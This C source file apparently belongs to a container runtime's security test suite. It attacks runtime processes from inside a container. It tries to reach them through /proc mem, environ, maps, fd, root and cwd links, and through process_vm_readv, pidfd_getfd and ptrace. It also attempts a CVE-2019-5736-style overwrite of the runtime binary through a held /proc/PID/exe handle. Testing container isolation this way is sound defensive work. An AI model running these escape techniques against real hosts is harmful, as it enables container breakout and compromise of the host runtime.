// SPDX-License-Identifier: Apache-2.0
/*
 * Attacks on processes of the runtime, from inside the container that they join. A process is the runtime's
 * while its name begins with "lichen" (base/proc.h: proc_set_name, or the program's own name before that). An
 * attempt counts only if the process was the runtime's before and still is afterwards: it becomes the
 * container's program, which the container may look into, within microseconds.
 */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t told_to_stop;

static void on_term(int signal)
{
    (void)signal;
    told_to_stop = 1;
}

static double now(void)
{
    struct timespec t;

    (void)clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static bool is_runtime(int dir)
{
    char name[32] = "";
    int fd = openat(dir, "comm", O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return false;
    (void)!read(fd, name, sizeof(name) - 1);
    close(fd);
    return strncmp(name, "lichen", 6) == 0;
}

/* /proc/PID/exe can be looked at, and is no file of the container's. */
static bool shows_runtime(int dir)
{
    struct stat exe, busybox, self;

    if (fstatat(dir, "exe", &exe, 0) < 0)
        return false;
    if (stat("/proc/self/exe", &self) == 0 && self.st_ino == exe.st_ino && self.st_dev == exe.st_dev)
        return false;
    return stat("/bin/busybox", &busybox) < 0 || busybox.st_ino != exe.st_ino || busybox.st_dev != exe.st_dev;
}

static bool can_open(int dir, const char *name, int flags)
{
    int fd = openat(dir, name, flags | O_CLOEXEC);
    char byte;
    bool ok = fd >= 0;

    /* Of a kernel thread or one that is gone the open may succeed with nothing behind it. */
    if (ok && !(flags & (O_PATH | O_DIRECTORY)))
        ok = read(fd, &byte, 1) == 1 || (strcmp(name, "mem") == 0 && errno == EIO);
    if (fd >= 0)
        close(fd);
    return ok;
}

static bool way_mem(int dir, pid_t pid)
{
    (void)pid;
    return can_open(dir, "mem", O_RDWR);
}

static bool way_maps(int dir, pid_t pid)
{
    (void)pid;
    return can_open(dir, "maps", O_RDONLY);
}

static bool way_environ(int dir, pid_t pid)
{
    (void)pid;
    return can_open(dir, "environ", O_RDONLY);
}

static bool way_fd(int dir, pid_t pid)
{
    (void)pid;
    return can_open(dir, "fd/0", O_PATH);
}

static bool way_root(int dir, pid_t pid)
{
    (void)pid;
    return can_open(dir, "root/", O_PATH | O_DIRECTORY);
}

static bool way_cwd(int dir, pid_t pid)
{
    (void)pid;
    return can_open(dir, "cwd/", O_PATH | O_DIRECTORY);
}

static bool way_exe(int dir, pid_t pid)
{
    (void)pid;
    return shows_runtime(dir);
}

/* The address need not be there: EFAULT is said after the permission was given. */
static bool way_vm(int dir, pid_t pid)
{
    char byte;
    struct iovec local = { &byte, 1 }, remote = { (void *)16, 1 };

    (void)dir;
    return process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT;
}

static bool way_getfd(int dir, pid_t pid)
{
    long pidfd = syscall(SYS_pidfd_open, pid, 0), fd = -1;

    (void)dir;
    if (pidfd < 0)
        return false;
    fd = syscall(SYS_pidfd_getfd, pidfd, 0, 0);
    close((int)pidfd);
    if (fd >= 0)
        close((int)fd);
    return fd >= 0;
}

static bool way_ptrace(int dir, pid_t pid)
{
    bool ok;
    int status;

    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return false;
    (void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    if (waitpid(pid, &status, __WALL) != pid)
        return false;
    /* Stopped: what it is now cannot change under our eyes. */
    ok = is_runtime(dir) && shows_runtime(dir);
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return ok;
}

static const struct {
    const char *name;
    bool (*try)(int dir, pid_t pid);
} ways[] = {
    { "mem", way_mem },           { "fd", way_fd },
    { "root", way_root },         { "cwd", way_cwd },
    { "exe", way_exe },           { "environ", way_environ },
    { "maps", way_maps },         { "process_vm_readv", way_vm },
    { "pidfd_getfd", way_getfd }, { "ptrace", way_ptrace },
};

#define N_WAYS (sizeof(ways) / sizeof(ways[0]))

struct tally {
    unsigned tried[N_WAYS], won;
};

/* Every way once, from another one on each time: whichever comes first has the most time. */
static void look_into(int dir, pid_t pid, struct tally *t)
{
    static unsigned first;

    for (size_t i = 0; i < N_WAYS; i++) {
        size_t way = (first + i) % N_WAYS;
        bool got;

        if (!is_runtime(dir))
            break;
        got = ways[way].try(dir, pid);
        t->tried[way]++;
        /* Still the runtime's, and its program can be seen: no race with its execve. */
        if (got && is_runtime(dir) && shows_runtime(dir)) {
            printf("WON %s of %d\n", ways[way].name, (int)pid);
            t->won++;
        }
    }
    first++;
}

/* Calls @visit for every process but ourselves. */
static void for_each_process(void (*visit)(int dir, pid_t pid, void *argument), void *argument)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    if (!proc)
        return;
    while ((entry = readdir(proc))) {
        pid_t pid = (pid_t)atoi(entry->d_name);
        int dir;

        if (pid <= 0 || pid == getpid())
            continue;
        dir = openat(dirfd(proc), entry->d_name, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (dir < 0)
            continue;
        visit(dir, pid, argument);
        close(dir);
    }
    closedir(proc);
}

static void visit_look(int dir, pid_t pid, void *argument)
{
    if (is_runtime(dir))
        look_into(dir, pid, argument);
}

static double until_of(int argc, char **argv)
{
    struct sigaction action = { .sa_handler = on_term };

    (void)sigaction(SIGTERM, &action, NULL);
    return now() + (argc > 1 ? atof(argv[1]) : 10);
}

int attack_look(int argc, char **argv)
{
    double end = until_of(argc, argv);
    struct tally t = { 0 };
    unsigned least = ~0U;

    puts("looking");
    while (!told_to_stop && now() < end)
        for_each_process(visit_look, &t);
    for (size_t i = 0; i < N_WAYS; i++) {
        printf("tried %s %u times\n", ways[i].name, t.tried[i]);
        least = t.tried[i] < least ? t.tried[i] : least;
    }
    printf("least %u\n", least);
    return t.won ? WON : least == 0;
}

#define HELD_MAX 64

struct held {
    int fd[HELD_MAX];
    unsigned n, seen;
    bool won;
};

static void visit_hold(int dir, pid_t pid, void *argument)
{
    struct held *h = argument;

    (void)pid;
    if (!shows_runtime(dir) || h->n == HELD_MAX)
        return;
    h->fd[h->n] = openat(dir, "exe", O_PATH | O_CLOEXEC);
    if (h->fd[h->n] < 0)
        return;
    h->n++;
    h->seen++;
}

/* CVE-2019-5736: a handle of the program, opened for writing as soon as nobody runs it any more (ETXTBSY). */
static void try_write(struct held *h)
{
    for (unsigned i = 0; i < h->n; i++) {
        char path[64];
        int fd;

        (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd[i]);
        (void)chmod(path, 0777);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (write(fd, "#!/attack\n", 10) == 10) {
            puts("WON overwrote the runtime");
            h->won = true;
        }
        close(fd);
    }
}

int attack_overwrite(int argc, char **argv)
{
    double end = until_of(argc, argv);
    struct held h = { 0 };

    puts("looking");
    while (now() < end && !(told_to_stop && h.n == 0)) {
        if (!told_to_stop)
            for_each_process(visit_hold, &h);
        try_write(&h);
        if (told_to_stop || h.n == HELD_MAX) {
            /* A last try when nobody is left who runs it. */
            for (unsigned i = 0; i < h.n; i++)
                close(h.fd[i]);
            h.n = 0;
        }
    }
    printf("held %u programs\n", h.seen);
    return h.won ? WON : h.seen == 0;
}
